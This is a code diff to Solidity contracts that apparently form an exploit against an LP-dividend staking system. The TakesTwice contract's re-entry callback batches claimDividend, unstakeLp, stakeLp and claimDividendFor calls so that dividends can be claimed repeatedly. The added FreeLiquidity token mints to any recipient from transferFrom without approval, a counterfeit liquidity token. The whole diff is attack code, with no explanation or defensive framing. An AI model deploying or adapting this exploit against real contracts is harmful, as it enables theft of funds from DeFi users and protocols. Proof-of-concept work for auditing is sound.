@@ -102,10 +102,11 @@ contract TakesTwice {
 
     function received() external {
         if (msg.sender == address(_vault)) return;
+        // What moves value; the rest only brings the books up to date.
         bytes[4] memory calls = [
             abi.encodeWithSelector(ILpDividends.claimDividend.selector),
             abi.encodeWithSelector(ILpDividends.unstakeLp.selector, 1),
-            abi.encodeWithSelector(ILpDividends.distribute.selector),
+            abi.encodeWithSelector(ILpDividends.stakeLp.selector, 1),
             abi.encodeWithSelector(ILpDividends.claimDividendFor.selector, address(this))
         ];
         for (uint256 i = 0; i < calls.length; ++i) {
@@ -114,5 +115,21 @@ contract TakesTwice {
             reason = failure;
             ++tries;
         }
+    }
+}
+
+/// @notice A liquidity token that everybody has and nobody must approve.
+contract FreeLiquidity is ERC20 {
+    function name() public pure override returns (string memory) {
+        return "Free";
+    }
+
+    function symbol() public pure override returns (string memory) {
+        return "FREE";
+    }
+
+    function transferFrom(address, address to, uint256 amount) public override returns (bool) {
+        _mint(to, amount);
+        return true;
     }
 }
